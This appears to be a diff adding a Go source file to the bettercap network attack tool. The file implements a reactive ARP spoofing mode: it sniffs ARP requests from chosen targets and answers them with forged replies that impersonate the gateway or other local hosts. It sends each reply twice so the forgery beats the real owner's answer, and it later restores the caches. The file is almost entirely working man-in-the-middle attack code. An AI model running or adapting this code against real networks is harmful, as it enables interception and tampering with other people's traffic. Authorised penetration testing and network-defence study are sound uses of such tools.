@@ -0,0 +1,176 @@
+package modules
+
+import (
+	"bytes"
+	"net"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/log"
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcap"
+)
+
+const (
+	arpModeActive   = "active"
+	arpModeReactive = "reactive"
+	// the real owner of the address answers as well, a second
+	// reply right after makes sure ours is the last one
+	arpReactiveRepeat = 100 * time.Millisecond
+)
+
+// host answered by the reactive spoofer and the addresses it's
+// been told to reach through us
+type arpAnswered struct {
+	mac       net.HardwareAddr
+	addresses map[string]net.IP
+}
+
+type arpAnsweredList struct {
+	sync.Mutex
+	hosts map[string]*arpAnswered
+}
+
+func newArpAnsweredList() *arpAnsweredList {
+	return &arpAnsweredList{
+		hosts: make(map[string]*arpAnswered),
+	}
+}
+
+func (l *arpAnsweredList) Add(ip net.IP, mac net.HardwareAddr, spoofed net.IP) {
+	l.Lock()
+	defer l.Unlock()
+
+	host, found := l.hosts[ip.String()]
+	if !found {
+		host = &arpAnswered{
+			mac:       mac,
+			addresses: make(map[string]net.IP),
+		}
+		l.hosts[ip.String()] = host
+	}
+	host.addresses[spoofed.String()] = spoofed
+}
+
+// Flush returns the answered hosts and empties the list.
+func (l *arpAnsweredList) Flush() map[string]*arpAnswered {
+	l.Lock()
+	defer l.Unlock()
+
+	hosts := l.hosts
+	l.hosts = make(map[string]*arpAnswered)
+	return hosts
+}
+
+func (p *ArpSpoofer) isTarget(ip net.IP, mac net.HardwareAddr) bool {
+	if p.Session.Skip(ip) || p.isWhitelisted(ip.String(), mac) {
+		return false
+	}
+
+	for _, addr := range p.targetAddresses() {
+		if addr.Equal(ip) {
+			return true
+		}
+	}
+
+	for _, hw := range p.targetMacs() {
+		if bytes.Equal(hw, mac) {
+			return true
+		}
+	}
+
+	return false
+}
+
+// shouldAnswer returns true if the ARP request comes from one of the
+// targets and asks for an address we want to impersonate.
+func (p *ArpSpoofer) shouldAnswer(arp *layers.ARP) bool {
+	if arp.Operation != layers.ARPRequest {
+		return false
+	}
+
+	sender := net.IP(arp.SourceProtAddress)
+	requested := net.IP(arp.DstProtAddress)
+	if !p.isTarget(sender, arp.SourceHwAddress) || sender.Equal(requested) {
+		return false
+	} else if requested.Equal(p.Session.Gateway.IP) {
+		return true
+	}
+
+	return p.internal && p.Session.Interface.Net.Contains(requested) && !p.Session.Skip(requested)
+}
+
+func (p *ArpSpoofer) answer(arp *layers.ARP) {
+	sender := net.IP(arp.SourceProtAddress).To4()
+	senderMAC := net.HardwareAddr(arp.SourceHwAddress)
+	requested := net.IP(arp.DstProtAddress).To4()
+
+	err, pkt := packets.NewARPReply(requested, p.Session.Interface.HW, sender, senderMAC)
+	if err != nil {
+		log.Error("Error while creating ARP spoof packet for %s: %s", sender, err)
+		return
+	}
+
+	log.Debug("Answering ARP request from %s (%s) for %s.", sender, senderMAC, requested)
+	p.answered.Add(sender, senderMAC, requested)
+
+	p.injectArp(sender.String(), senderMAC, p.Session.Interface.HW, pkt)
+	time.AfterFunc(arpReactiveRepeat, func() {
+		if p.Running() && !p.Paused() {
+			p.injectArp(sender.String(), senderMAC, p.Session.Interface.HW, pkt)
+		}
+	})
+}
+
+func (p *ArpSpoofer) openReactiveHandle() (err error) {
+	if p.handle, err = pcap.OpenLive(p.Session.Interface.Name(), 65536, true, pcap.BlockForever); err != nil {
+		return
+	} else if err = p.handle.SetBPFFilter("arp"); err != nil {
+		p.handle.Close()
+	}
+	return
+}
+
+func (p *ArpSpoofer) reactiveWorker() {
+	log.Info("ARP spoofer started in reactive mode, answering ARP requests of %d targets.", len(p.targetAddresses())+len(p.targetMacs()))
+
+	src := gopacket.NewPacketSource(p.handle, p.handle.LinkType())
+	p.pktSourceChan = src.Packets()
+	for packet := range p.pktSourceChan {
+		if !p.Running() {
+			break
+		} else if packet == nil || p.Paused() {
+			continue
+		}
+
+		if arp, ok := packet.Layer(layers.LayerTypeARP).(*layers.ARP); ok && p.shouldAnswer(arp) {
+			p.answer(arp)
+		}
+	}
+}
+
+// restores the cache of every host answered in reactive mode
+func (p *ArpSpoofer) unSpoofAnswered() {
+	hosts := p.answered.Flush()
+	log.Info("Restoring ARP cache of %d answered hosts.", len(hosts))
+
+	for ip, host := range hosts {
+		for _, spoofed := range host.addresses {
+			realMAC := p.Session.Gateway.HW
+			if !spoofed.Equal(p.Session.Gateway.IP) {
+				var err error
+				if realMAC, err = findMAC(p.Session, spoofed, false); err != nil {
+					log.Debug("Could not restore %s on %s: %s", spoofed, ip, err)
+					continue
+				}
+			}
+
+			if err, pkt := packets.NewARPReply(spoofed, realMAC, net.ParseIP(ip), host.mac); err == nil {
+				p.injectArp(ip, host.mac, realMAC, pkt)
+			}
+		}
+	}
+}